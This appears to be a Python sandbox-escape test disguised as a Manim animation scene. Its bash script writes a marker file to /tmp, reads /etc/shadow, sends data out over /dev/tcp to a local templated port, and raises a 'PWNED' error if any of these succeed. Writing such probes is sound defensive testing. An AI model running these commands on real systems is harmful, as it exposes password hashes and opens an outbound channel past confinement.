"""subprocess: a shell that writes outside, reads secrets and phones home over bash's /dev/tcp."""
from manim import *
import os
import subprocess

PWNED = "PWN" + "ED!"


class SubprocessShell(Scene):
    def construct(self):
        script = ("touch /tmp/eigenframe-pwned-@MARK@-26; cat /etc/shadow; "
                  "echo data > /dev/tcp/127.0.0.1/@TCP_PORT@ && echo CONNECTED; id")
        proc = subprocess.run(["/bin/bash", "-c", script], capture_output=True, text=True, timeout=10)
        print(proc.stdout, proc.stderr)
        if (os.path.exists("/tmp/eigenframe-pwned-@MARK@-26") or ":99999:" in proc.stdout
                or "CONNECTED" in proc.stdout):
            raise RuntimeError(f"{PWNED} {proc.stdout}")
        raise PermissionError(f"the shell could not get out: {proc.stderr.strip()[-300:]}")
